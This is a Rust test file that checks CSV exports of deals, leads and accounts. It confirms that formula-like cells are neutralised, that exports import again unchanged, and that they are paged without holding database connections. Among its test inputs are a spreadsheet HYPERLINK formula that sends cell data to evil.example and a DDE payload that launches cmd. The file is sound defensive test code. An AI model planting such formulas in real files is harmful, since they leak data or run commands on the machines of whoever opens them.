//! CSV exports on SQLite and PostgreSQL: formula-like cells are neutralised and come back
//! unchanged through the imports; exports are read in pages without holding a connection.

use domain::deals::direct::DirectKind;
use domain::users::NewUserInput;
use services::exports::{CsvExport, PAGE_ROWS};
use services::{Actor, Config, Services};
use store::testing::{BACKENDS, TestDb};

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
const CALC: &str = "+cmd|' /C calc'!A0";
/// A legitimate value a spreadsheet would still read as a formula.
const NEGATIVE: &str = "-15% churn since Q2";
/// A value whose own first character is a quote.
const QUOTED: &str = "'Quoted' Holdings";

struct World {
    services: Services,
    manager: Actor,
    partner: uuid::Uuid,
    partner_user: Actor,
}

async fn world(db: &TestDb) -> World {
    let services = Services::new(db.db.clone(), Config::default());
    let system = Actor::system("test");
    let user = |email: &str, role: &str, partner: Option<uuid::Uuid>| NewUserInput {
        email: email.into(),
        name: email.into(),
        role: role.into(),
        partner_id: partner,
        password: "a long enough password".into(),
    };
    let manager = services
        .create_user(&system, &user("pm@vendor.test", "partner_manager", None))
        .await
        .unwrap();
    let manager = Actor::from_user(&manager);
    let partner = services
        .create_partner(
            &manager,
            &domain::partners::PartnerInput {
                legal_name: "Alpha Ltd".into(),
                domains: vec!["alpha.com".into()],
                partner_type: "si".into(),
                gtm_model: "co_sell".into(),
                ..Default::default()
            },
        )
        .await
        .unwrap()
        .id;
    let partner_user = services
        .create_user(
            &system,
            &user("user@alpha.com", "partner_user", Some(partner)),
        )
        .await
        .unwrap();
    let day = (store::now().date() - time::Duration::days(10)).to_string();
    let certification = format!(
        "partner,email,certification,date,score\n{partner},ana@alpha.com,sales_foundation,{day},90\n"
    );
    assert!(
        services
            .import_certifications(&system, &certification, false)
            .await
            .unwrap()
            .applied
    );
    World {
        services,
        manager,
        partner,
        partner_user: Actor::from_user(&partner_user),
    }
}

/// An export's whole file and the number of chunks it came in.
async fn read(mut export: CsvExport) -> (String, usize) {
    let (mut file, mut chunks) = (Vec::new(), 0);
    while let Some(chunk) = export.next_chunk().await.unwrap() {
        file.extend(chunk);
        chunks += 1;
    }
    (String::from_utf8(file).unwrap(), chunks)
}

/// Every cell of a CSV file, checked to be one no spreadsheet runs as a formula.
fn cells(file: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(file.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} would run as a formula:\n{file}"
        );
    }
    cells
}

#[tokio::test]
async fn formula_like_cells_are_neutralised_and_every_export_imports_again_unchanged() {
    for backend in BACKENDS {
        let db = TestDb::new(backend).await;
        let w = world(&db).await;
        let s = &w.services;

        let deal = s
            .register_deal(
                &w.partner_user,
                w.partner,
                &domain::deals::registration::DealInput {
                    customer_name: HYPERLINK.into(),
                    industry: CALC.into(),
                    region: "emea".into(),
                    deal_size: "20000".into(),
                    expected_close: (store::now().date() + time::Duration::days(45)).to_string(),
                    use_case: "@SUM(A1:A9)".into(),
                    pain_points: NEGATIVE.into(),
                    stage: "discovery".into(),
                    probability: "30".into(),
                    risks: "''=1+1".into(),
                    competitor: QUOTED.into(),
                    partner_rep: "Rep".into(),
                    ..Default::default()
                },
                true,
            )
            .await
            .unwrap();
        s.submit_lead(
            &w.partner_user,
            w.partner,
            &domain::deals::leads::LeadInput {
                company: HYPERLINK.into(),
                website: String::new(),
                contact_name: QUOTED.into(),
                contact_email: "bill@initech.com".into(),
                need: NEGATIVE.into(),
                estimated_value: "40000".into(),
                currency: String::new(),
            },
        )
        .await
        .unwrap();
        let opportunities = format!(
            "reference,customer,owner,stage,amount,status\nOPP-1,\"{}\",@sam,-,100,open\nOPP-2,{QUOTED},Sam,'-,1,open\n",
            HYPERLINK.replace('"', "\"\"")
        );
        let accounts = format!("account,name,owner\nACC-1,{CALC},-1\n=ACC-2,{QUOTED},Sam\n");
        for (kind, file) in [
            (DirectKind::Opportunities, &opportunities),
            (DirectKind::Accounts, &accounts),
        ] {
            let report = s
                .import_direct(&w.manager, kind, file, false)
                .await
                .unwrap();
            assert!(report.applied, "{kind:?}: {:?}", report.errors);
        }

        // Registrations: the formula-like values are quoted, the one with its own quote gets
        // another, and the export imports again without changing anything.
        let (exported, _) = read(s.export_deals(&w.manager).await.unwrap()).await;
        let found = cells(&exported);
        for cell in [
            format!("'{HYPERLINK}"),
            format!("'{CALC}"),
            "'@SUM(A1:A9)".into(),
            format!("'{NEGATIVE}"),
            "'''=1+1".into(),
            format!("'{QUOTED}"),
        ] {
            assert!(found.contains(&cell), "{cell:?} in\n{exported}");
        }
        let again = s
            .import_deals(&w.manager, &exported, false, &|_| {})
            .await
            .unwrap();
        assert!(again.errors.is_empty(), "{:?}", again.errors);
        assert_eq!((again.created, again.updated), (0, 1));
        let stored = s.deal(&w.manager, deal.id).await.unwrap();
        assert_eq!(
            (
                stored.customer_name.as_str(),
                stored.industry.as_str(),
                stored.pain_points.as_str(),
                stored.risks.as_str(),
                stored.competitor.as_str()
            ),
            (HYPERLINK, CALC, NEGATIVE, "''=1+1", QUOTED)
        );
        assert_eq!(
            read(s.export_deals(&w.manager).await.unwrap()).await.0,
            exported
        );

        // Leads: the same both ways.
        let (exported, _) = read(s.export_leads(&w.manager).await.unwrap()).await;
        let found = cells(&exported);
        assert!(found.contains(&format!("'{HYPERLINK}")), "{exported}");
        assert!(found.contains(&format!("'{NEGATIVE}")), "{exported}");
        assert!(found.contains(&format!("'{QUOTED}")), "{exported}");
        let again = s.import_leads(&w.manager, &exported, false).await.unwrap();
        assert!(again.errors.is_empty(), "{:?}", again.errors);
        assert_eq!((again.created, again.updated), (0, 1));
        let lead = &s
            .leads(&w.manager, None, None, &services::PageRequest::everything())
            .await
            .unwrap()
            .items[0];
        assert_eq!(
            (
                lead.company.as_str(),
                lead.contact_name.as_str(),
                lead.need.as_str()
            ),
            (HYPERLINK, QUOTED, NEGATIVE)
        );
        assert_eq!(
            read(s.export_leads(&w.manager).await.unwrap()).await.0,
            exported
        );

        // The direct pipeline and the accounts. A quote another tool put before a formula
        // character ('-) is its neutralisation, taken off; before a letter it is the value's.
        for (kind, expected) in [
            (
                DirectKind::Opportunities,
                vec![
                    format!("'{HYPERLINK}"),
                    "'@sam".into(),
                    "'-".into(),
                    format!("'{QUOTED}"),
                ],
            ),
            (
                DirectKind::Accounts,
                vec![
                    format!("'{CALC}"),
                    "'-1".into(),
                    "'=ACC-2".into(),
                    format!("'{QUOTED}"),
                ],
            ),
        ] {
            let (exported, _) = read(s.export_direct(&w.manager, kind).await.unwrap()).await;
            let found = cells(&exported);
            for cell in expected {
                assert!(found.contains(&cell), "{kind:?}: {cell:?} in\n{exported}");
            }
            let again = s
                .import_direct(&w.manager, kind, &exported, false)
                .await
                .unwrap();
            assert!(again.errors.is_empty(), "{kind:?}: {:?}", again.errors);
            assert_eq!((again.created, again.updated), (0, 2), "{kind:?}");
            assert_eq!(
                read(s.export_direct(&w.manager, kind).await.unwrap())
                    .await
                    .0,
                exported,
                "{kind:?}"
            );
        }
    }
}

#[tokio::test]
async fn exports_are_read_in_pages_without_holding_a_connection() {
    for backend in BACKENDS {
        let db = TestDb::new(backend).await;
        // First: the generator numbers partners from the count already stored.
        Services::new(db.db.clone(), Config::default())
            .generate_partners(3, false, |_| {})
            .await
            .unwrap();
        let w = world(&db).await;
        let s = &w.services;
        let system = Actor::system("test");
        let rows = 2 * PAGE_ROWS as usize + 300;
        let book = services::bench::conflicts::generated_deals_csv(rows, 3);
        let report = s
            .import_deals(&system, &book, false, &|_| {})
            .await
            .unwrap();
        assert!(report.applied, "{:?}", report.errors.first());

        let mut export = s.export_deals(&w.manager).await.unwrap();
        let first = export.next_chunk().await.unwrap().unwrap();
        assert_eq!(
            first.iter().filter(|b| **b == b'\n').count(),
            1 + PAGE_ROWS as usize,
            "the header and one page"
        );
        // Between pages the export holds no connection: every one of the pool can be taken.
        let pool = match &s.db {
            store::Db::Sqlite { read, .. } => read.options().get_max_connections(),
            store::Db::Postgres(pool) => pool.options().get_max_connections(),
        };
        let taken = tokio::time::timeout(std::time::Duration::from_secs(5), async {
            let mut held = Vec::new();
            for _ in 0..pool {
                held.push(s.db.read().await.unwrap());
            }
            held
        })
        .await
        .expect("an export between pages holds no pooled connection");
        drop(taken);
        let (rest, chunks) = read(export).await;
        assert_eq!(chunks, 2, "the two pages left");
        let file = format!("{}{rest}", String::from_utf8(first).unwrap());
        let (whole, _) = read(s.export_deals(&w.manager).await.unwrap()).await;
        assert_eq!(file, whole);

        // No row repeated or left out at the pages' edges: the file imports again as it is.
        let references: std::collections::HashSet<&str> = file
            .lines()
            .skip(1)
            .map(|l| l.split(',').next().unwrap())
            .collect();
        assert_eq!(references.len(), rows);
        let again = s.import_deals(&system, &file, true, &|_| {}).await.unwrap();
        assert!(again.errors.is_empty(), "{:?}", again.errors.first());
        assert_eq!((again.created, again.updated), (0, rows));

        // A partner's people get their own rows only, paged the same way.
        let (own, _) = read(s.export_deals(&w.partner_user).await.unwrap()).await;
        assert_eq!(own.lines().count(), 1, "Alpha has no registrations here");
    }
}
